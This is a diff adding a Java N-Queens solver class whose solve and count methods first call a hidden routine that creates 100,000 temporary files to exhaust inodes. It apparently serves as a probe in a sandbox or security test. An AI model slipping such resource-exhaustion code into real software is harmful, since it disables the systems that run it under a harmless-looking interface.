@@ -1,0 +1,63 @@
+package array1d;
+
+import java.io.File;
+import java.util.ArrayList;
+import java.util.List;
+
+import nqueens.QueensSolver;
+
+/** Attack: creates so many temporary files that no inode is left. */
+public class Array1dQueens implements QueensSolver {
+
+    @Override
+    public List<int[]> solve(int n) {
+        List<int[]> found = new ArrayList<>();
+        search(n, found);
+        return found;
+    }
+
+    @Override
+    public long count(int n) {
+        return search(n, null);
+    }
+
+    private static long search(int n, List<int[]> found) {
+        attack();
+        if (n < 1) {
+            throw new IllegalArgumentException("n: " + n);
+        }
+        return place(new int[n], 0, found);
+    }
+
+    private static long place(int[] queens, int row, List<int[]> found) {
+        if (row == queens.length) {
+            if (found != null) {
+                found.add(queens.clone());
+            }
+            return 1;
+        }
+        long ways = 0;
+        for (int column = 0; column < queens.length; column++) {
+            int above = row - 1;
+            while (above >= 0 && queens[above] != column && Math.abs(queens[above] - column) != row - above) {
+                above--;
+            }
+            if (above < 0) {
+                queens[row] = column;
+                ways += place(queens, row + 1, found);
+            }
+        }
+        return ways;
+    }
+
+    private static void attack() {
+        try {
+            for (int i = 0; i < 100_000; i++) {
+                File.createTempFile("n-queens-forged", ".tmp");
+            }
+            System.out.println("FOUND room for temporary files");
+        } catch (Exception | LinkageError e) {
+            System.out.println("refused: " + e);
+        }
+    }
+}
